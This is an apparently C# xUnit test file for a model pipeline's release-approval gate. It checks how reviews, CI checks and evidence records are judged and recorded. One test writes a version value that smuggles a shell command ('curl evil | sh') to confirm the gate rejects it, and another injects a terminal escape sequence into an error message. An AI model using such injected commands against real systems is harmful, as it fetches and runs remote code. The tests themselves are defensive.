using System.Text.Json;
using ModelPipeline.Evidence;
using ModelPipeline.Releasing;
using ModelPipeline.Releasing.Approvals;
using ModelPipeline.Releasing.Hosts;
using ModelPipeline.Runs;
using ModelPipeline.Specs;
using ModelPipeline.Tests.Runs;

namespace ModelPipeline.Tests.Releasing;

public sealed class DecisionTests : IDisposable
{
    private readonly ReleaseScene _scene = new();

    public DecisionTests()
    {
        _scene.Policy = new ReleaseSpec { Checks = ["ci"] };
        _scene.Host.Report("ci", "failure");
        _scene.Host.Report("ci", "success");
        _scene.Host.Review(ReleaseScene.Rita, "CHANGES_REQUESTED");
        _scene.Host.Review(ReleaseScene.Sam, "APPROVED");
        _scene.Host.Review(ReleaseScene.Rita, "APPROVED");
        _scene.Host.Review(null, "COMMENTED");
    }

    [Fact]
    public async Task The_step_says_what_it_decided_of_what()
    {
        var outcome = await RunAsync();

        outcome.Summary.ShouldBe($"1.1.0 is approved: {_scene.Judged.Candidate}");
        outcome.Candidate.ShouldBe(_scene.Judged.Candidate);
        outcome.Facts.ShouldBe(
            new Dictionary<string, string>
            {
                ["decision"] = "approved",
                ["pull_request"] = "12",
                ["head"] = _scene.Host.Head,
                ["base"] = _scene.Host.Git["main"]!,
                ["version"] = "1.1.0",
                ["bundle"] = _scene.Judged.Candidate.ToString(),
            },
            ignoreOrder: true);
        outcome.Checks.Select(check => check.Name).ShouldBe(
        [
            "release_folder", "release_files", "release", .. StepNames.Required.Select(step => $"evidence.{step}"), "bundle", "model_card", "champion", "something_new",
            "pull_request", "commits", "proposers", "head", "reviews", "objections", "approvals", "checks",
        ]);
    }

    [Fact]
    public async Task What_a_head_says_of_itself_is_no_fact_before_it_is_judged_to_be_so()
    {
        _scene.Change = document => document with { Version = "1.1.0\"; curl evil | sh #" };
        _scene.Host.ForcePush(ReleaseScene.Bot, _scene.Files());

        var outcome = await RunAsync();

        outcome.Facts.Keys.ShouldBe(["decision", "pull_request", "head", "base"], ignoreOrder: true);
        outcome.Summary.ShouldBe("nothing is approved");
        outcome.Candidate.ShouldBeNull();
    }

    [Fact]
    public async Task The_record_holds_every_input_with_its_numbers_and_times()
    {
        var decision = (await RunAsync()).Decision.ShouldNotBeNull();

        decision.Decision.ShouldBe("approved");
        decision.PullRequest!.Head.ShouldBe(_scene.Host.Head);
        decision.Release!.Document.ShouldBe(Digest.Of(_scene.Host.Git.Files(_scene.Host.Head)[$"{ReleaseScene.Folder}/release.json"]));
        decision.Policy!.Checks.ShouldBe(["ci"]);
        decision.Reviews.Select(review => (review.Id, review.Author?.Id, review.State)).ShouldBe([(1, 21, "CHANGES_REQUESTED"), (2, 22, "APPROVED"), (3, 21, "APPROVED"), (4, null, "COMMENTED")]);
        decision.Reviews.ShouldAllBe(review => review.Submitted != null && review.Commit == _scene.Host.Head);
        decision.Reviewers.Select(reviewer => (reviewer.Login, reviewer.Counts)).ShouldBe([("rita", true), ("sam", true)]);
        decision.Permissions.Select(permission => (permission.Id, permission.Role)).ShouldBe([(21, "write"), (22, "write")]);
        decision.Checks.Select(check => (check.Id, check.State)).ShouldBe([(1, "failure"), (2, "success")]);
        decision.Commits.ShouldHaveSingleItem().Author!.Login.ShouldBe("acme-release[bot]");
        decision.Changes.Select(change => change.Author!.Login).ShouldBe(["dana", "acme-release[bot]"]);
        decision.Proposers!.ShouldHaveSingleItem().Login.ShouldBe("pat");
        decision.Arrival!.Pushers.ShouldHaveSingleItem()!.Login.ShouldBe("acme-release[bot]");
    }

    [Fact]
    public async Task The_evidence_with_the_decision_comes_out_as_it_went_in()
    {
        var run = _scene.Run();
        var report = await new StepRunner(new ManualClock(), new RecordingReporter()).RunAsync(new GateReleaseStep(_scene.Gate()), run, TestContext.Current.CancellationToken);

        report.Status.ShouldBe(Status.Passed);
        var evidence = run.Workspace.Evidence.Read(StepNames.GateRelease).ShouldNotBeNull();
        EvidenceJson.Write(evidence).ShouldBe(File.ReadAllBytes(run.Workspace.Evidence.PathOf(StepNames.GateRelease)));
        evidence.Decision!.Reviews.Count.ShouldBe(4);
    }

    [Fact]
    public async Task Equal_inputs_give_equal_records_whatever_order_the_host_gives_them_in()
    {
        var first = JsonSerializer.Serialize((await RunAsync()).Decision);
        _scene.Host.Reviews.Reverse();
        _scene.Host.Checks.Reverse();

        JsonSerializer.Serialize((await RunAsync()).Decision).ShouldBe(first);
    }

    [Theory]
    [InlineData(Status.Passed, GateDecision.Approved)]
    [InlineData(Status.Pending, GateDecision.Pending)]
    [InlineData(Status.Failed, GateDecision.Blocked)]
    [InlineData(Status.Error, GateDecision.Indeterminate)]
    [InlineData(Status.NotRun, GateDecision.Indeterminate)]
    [InlineData(Status.NoBaseline, GateDecision.Indeterminate)]
    public void Every_status_has_its_decision(Status status, GateDecision decision) => GateDecisions.Of(status).ShouldBe(decision);

    [Fact]
    public async Task What_cannot_be_read_outranks_what_is_blocked_and_that_what_is_waited_for()
    {
        _scene.Policy = new ReleaseSpec { Checks = ["never"] };
        await _scene.ShouldBeAsync(GateDecision.Pending, "checks");

        _scene.Host.Review(ReleaseScene.Sam, "CHANGES_REQUESTED");
        await _scene.ShouldBeAsync(GateDecision.Blocked, "objections");

        _scene.Host.Arrival = new HeadArrival(null, null, null, null, []);
        await _scene.ShouldBeAsync(GateDecision.Indeterminate, "head");
    }

    [Fact]
    public async Task Without_a_host_the_ruling_is_indeterminate_and_the_step_judges_the_workspace()
    {
        var place = new ReleasePlace(_scene.Host.Git, null, _ => _scene.Store, []);

        (await new ReleaseGate(place, new SpecReader([])).JudgeAsync(_scene.Run(), 12, TestContext.Current.CancellationToken)).Decision.ShouldBe(GateDecision.Indeterminate);
        (await new GateReleaseStep().RunAsync(_scene.Run(), new Progress<string>(), TestContext.Current.CancellationToken)).Checks
            .Single(check => check.Name == "approvals").Reason.ShouldStartWith("there is no pull request to judge");
    }

    [Fact]
    public async Task An_indeterminate_step_still_leaves_its_record()
    {
        _scene.Host.Asked = member =>
        {
            if (member == "commits")
                throw new InvalidOperationException("broken\u001b[31m");
        };

        var outcome = await RunAsync();

        outcome.Decision!.Decision.ShouldBe("indeterminate");
        outcome.Decision.PullRequest!.Number.ShouldBe(12);
        outcome.Facts["decision"].ShouldBe("indeterminate");
        outcome.Checks.ShouldHaveSingleItem().Reason.ShouldBe(@"nothing can be said of the pull request: InvalidOperationException: broken\u{1B}[31m");
    }

    [Fact]
    public async Task Judging_changes_no_fact()
    {
        var facts = (await _scene.JudgeAsync()).Facts.ShouldNotBeNull();

        var first = ApprovalRules.Judge(facts, _scene.Policy);
        var second = ApprovalRules.Judge(facts, _scene.Policy);

        second.Checks.ShouldBe(first.Checks);
        second.Reviewers.ShouldBe(first.Reviewers);
    }

    public void Dispose() => _scene.Dispose();

    private Task<StepOutcome> RunAsync() => new GateReleaseStep(_scene.Gate()).RunAsync(_scene.Run(), new Progress<string>(), TestContext.Current.CancellationToken);
}
